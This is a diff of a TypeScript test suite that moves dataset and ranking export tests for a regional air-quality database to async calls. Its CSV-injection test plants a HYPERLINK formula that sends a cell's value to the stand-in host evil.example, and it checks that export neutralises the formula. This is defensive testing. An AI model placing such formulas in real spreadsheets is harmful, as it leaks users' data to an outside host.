@@ -12,14 +12,14 @@ import { buildTemplate } from './template.ts';
 
 let h: OpenedDatabase;
 let versionId: number;
-beforeEach(() => {
-  h = freshDb();
-  versionId = createDraft(h.db, { document: demoDocument() }, 'a').id;
+beforeEach(async () => {
+  h = await freshDb();
+  versionId = (await createDraft(h.db, { document: demoDocument() }, 'a')).id;
 });
 afterEach(() => h.close());
 
-function fill(): void {
-  const regions = listRegions(h.db).map((r, i) => ({
+async function fill(): Promise<void> {
+  const regions = (await listRegions(h.db)).map((r, i) => ({
     code: r.code,
     values: {
       pm25_target: 35,
@@ -29,7 +29,7 @@ function fill(): void {
       ...(i % 2 ? { level: 'major' } : {}),
     },
   }));
-  saveDatasetGrid(h.db, 2024, { regions }, { versionId, actor: 'a' });
+  await saveDatasetGrid(h.db, 2024, { regions }, { versionId, actor: 'a' });
 }
 
 async function load(body: Buffer): Promise<ExcelJS.Workbook> {
@@ -66,11 +66,7 @@ describe('XLSX template', () => {
       '事件等级',
     ]);
     expect(ws.rowCount).toBe(2 + 12);
-    expect(ws.getCell('A3').value).toBe(
-      listRegions(h.db)
-        .map((r) => r.code)
-        .sort()[0],
-    );
+    expect(ws.getCell('A3').value).toBe((await listRegions(h.db)).map((r) => r.code).sort()[0]);
     expect(ws.views[0]).toMatchObject({ state: 'frozen', xSplit: 2, ySplit: 2 });
     expect(ws.getCell('F3').dataValidation).toMatchObject({ type: 'list', formulae: ['"是,否"'] });
     expect(ws.getCell('G14').dataValidation).toMatchObject({ type: 'list', formulae: ['"none,major"'] });
@@ -85,7 +81,7 @@ describe('XLSX template', () => {
   it('groups targets before actuals before events', async () => {
     const doc = demoDocument();
     doc.inputs = [...doc.inputs].reverse();
-    const v = createDraft(h.db, { document: doc }, 'a');
+    const v = await createDraft(h.db, { document: doc }, 'a');
     const ws = (await load((await buildTemplate(h.db, v.id)).body)).worksheets[0];
     expect((ws.getRow(1).values as unknown[]).slice(3)).toEqual([
       'pm25_target',
@@ -113,7 +109,7 @@ describe('XLSX template', () => {
       actor: 'a',
     });
     expect(res.regions).toBe(12);
-    const grid = getDataset(h.db, 2024);
+    const grid = await getDataset(h.db, 2024);
     expect(grid.regions[0].values).toEqual({ pm25_target: 35, pm25: 33, projects: 2, incident: true });
   });
 });
@@ -122,15 +118,15 @@ describe('dataset export', () => {
   it.each(['csv', 'xlsx', 'json'] as const)(
     '%s re-imports into a fresh database with the same hash',
     async (format) => {
-      fill();
-      const hash = getDataset(h.db, 2024).hash;
+      await fill();
+      const hash = (await getDataset(h.db, 2024)).hash;
       const file = await exportDataset(h.db, 2024, format, versionId);
       expect(file.filename).toBe(`dataset-2024.${format}`);
-      const other = freshDb();
+      const other = await freshDb();
       try {
-        const v = createDraft(other.db, { document: demoDocument() }, 'a').id;
+        const v = (await createDraft(other.db, { document: demoDocument() }, 'a')).id;
         await importDataset(other.db, { year: 2024, versionId: v, format, data: file.body, actor: 'a' });
-        expect(getDataset(other.db, 2024).hash).toBe(hash);
+        expect((await getDataset(other.db, 2024)).hash).toBe(hash);
       } finally {
         other.close();
       }
@@ -138,7 +134,7 @@ describe('dataset export', () => {
   );
 
   it('CSV has a BOM and a # label row; without a version, every stored key', async () => {
-    fill();
+    await fill();
     const text = (await exportDataset(h.db, 2024, 'csv', versionId)).body.toString('utf8');
     expect(
       text.startsWith('\uFEFFcode,name,pm25_target,pm25,projects,incident,level\n#地区代码,地区名称,'),
@@ -153,9 +149,9 @@ describe('dataset export', () => {
 
 describe('run export', () => {
   it('writes the ranking as CSV and XLSX', async () => {
-    fill();
-    const pub = publishApproved(h.db, versionId);
-    const run = createRun(h.db, { versionId: pub.id, year: 2024 }, 'a');
+    await fill();
+    const pub = await publishApproved(h.db, versionId);
+    const run = await createRun(h.db, { versionId: pub.id, year: 2024 }, 'a');
     const csv = (await exportRun(h.db, run.id, 'csv')).body
       .toString('utf8')
       .replace(/^\uFEFF/, '')
@@ -186,7 +182,7 @@ describe('run export', () => {
 
 describe('CSV injection', () => {
   it('neutralises text cells that a spreadsheet would run as a formula; numbers and re-import unchanged', async () => {
-    fill();
+    await fill();
     const evil = '=HYPERLINK("http://evil.example/?"&A1,"点此")';
     h.sqlite.prepare('UPDATE regions SET name_zh = ? WHERE code = ?').run(evil, '220100');
     h.sqlite.prepare('UPDATE regions SET name_zh = ? WHERE code = ?').run('@SUM(1+1)', '220200');
@@ -200,15 +196,17 @@ describe('CSV injection', () => {
     expect(data).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
     expect(data).toContain(`'@SUM(1+1)`);
     expect(cells(data).filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
-    const pub = publishApproved(h.db, versionId);
-    const run = createRun(h.db, { versionId: pub.id, year: 2024 }, 'a');
+    const pub = await publishApproved(h.db, versionId);
+    const run = await createRun(h.db, { versionId: pub.id, year: 2024 }, 'a');
     const ranking = (await exportRun(h.db, run.id, 'csv')).body.toString('utf8');
     expect(ranking).toContain(`'@SUM(1+1)`);
     expect(cells(ranking).filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
     // Negative numbers stay numbers, and the exported file re-imports without a change.
     expect(neutraliseCsv('-5')).toBe("'-5");
-    const before = getDataset(h.db, 2024);
+    const before = await getDataset(h.db, 2024);
     await importDataset(h.db, { year: 2024, versionId, format: 'csv', data, actor: 'a' });
-    expect(getDataset(h.db, 2024).regions.map((r) => r.values)).toEqual(before.regions.map((r) => r.values));
+    expect((await getDataset(h.db, 2024)).regions.map((r) => r.values)).toEqual(
+      before.regions.map((r) => r.values),
+    );
   });
 });
